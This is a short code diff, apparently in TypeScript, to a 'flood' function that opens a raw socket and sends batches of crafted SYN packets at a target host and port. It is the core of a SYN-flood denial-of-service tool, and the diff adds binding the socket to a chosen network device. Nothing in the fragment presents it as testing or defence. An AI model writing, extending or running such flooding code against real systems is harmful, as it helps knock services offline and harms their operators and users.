@@ -18,6 +18,7 @@ function flood(order: FloodOrder): void {
   const doing = 'Writing SYNs'
   const fd = libc.socket(libc.AF_INET, libc.SOCK_RAW | libc.SOCK_CLOEXEC, libc.IPPROTO_RAW, 'Opening a raw socket')
   try {
+    libc.bindToDevice(fd, order.device, doing)
     const batch = new libc.DatagramBatch(BATCH, SYN_BYTES, socketAddress(order.target.host, 0))
     for (const packet of batch.packets)
       writeTemplate(packet, { address: addressBytes(order.target.host), port: order.target.port })
